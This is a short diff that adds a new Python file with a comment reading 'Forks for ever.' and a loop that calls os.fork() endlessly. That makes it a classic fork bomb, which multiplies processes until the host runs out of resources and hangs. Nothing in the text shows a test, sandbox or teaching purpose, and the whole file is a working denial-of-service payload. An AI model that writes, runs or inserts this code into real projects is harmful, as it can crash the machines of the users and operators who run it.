@@ -1,0 +1,5 @@
+# Forks for ever.
+import os
+
+while True:
+    os.fork()
